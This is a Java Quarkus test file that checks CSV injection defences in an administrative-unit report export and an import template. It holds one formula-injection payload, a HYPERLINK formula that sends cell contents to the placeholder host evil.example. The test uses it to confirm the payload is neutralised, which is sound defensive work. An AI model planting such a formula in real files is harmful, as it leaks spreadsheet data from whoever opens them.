package vn.coso.common.export;

import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import org.junit.jupiter.api.Test;
import vn.coso.testing.TestUnits;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.UUID;

import static org.hamcrest.Matchers.is;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static vn.coso.testing.Api.as;

/** A name an officer may legally give a unit cannot turn into a formula in the CSV the province opens. */
@QuarkusTest
class CsvInjectionTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem\")";

    @Inject
    TestUnits units;

    @Test
    void formulaLookingUnitNameIsNeutralisedInTheReportCsv() {
        String code = "csv" + UUID.randomUUID().toString().substring(0, 8);
        int id = as("admin").body(Map.of("code", code, "name", FORMULA, "type", "DISTRICT",
                        "parentId", units.province().id))
                .post("/api/v1/units").then().statusCode(201).body("name", is(FORMULA)).extract().path("id");
        assertEquals(FORMULA, units.reload(id).name, "the name is stored as given");

        byte[] csv = as("viewer").queryParam("year", 2022).queryParam("unitId", id).queryParam("format", "csv")
                .get("/api/v1/reports/annual").then().statusCode(200).extract().asByteArray();
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertTrue(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Xem\"\")\""), text);
        assertFalse(Arrays.stream(text.split("\r\n"))
                        .flatMap(line -> Arrays.stream(line.split(",")))
                        .map(cell -> cell.startsWith("\"") ? cell.substring(1) : cell)
                        .anyMatch(cell -> cell.startsWith("=")),
                "no cell starts with '='");
    }

    @Test
    void importTemplatesAreWrittenThroughTheSameWriter() {
        byte[] csv = as("admin").queryParam("format", "csv").get("/api/v1/imports/units/template")
                .then().statusCode(200).extract().asByteArray();
        assertEquals((byte) 0xEF, csv[0]);
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertTrue(text.endsWith("\r\n"));
        assertFalse(text.contains("\n=") || text.startsWith("="));
    }
}
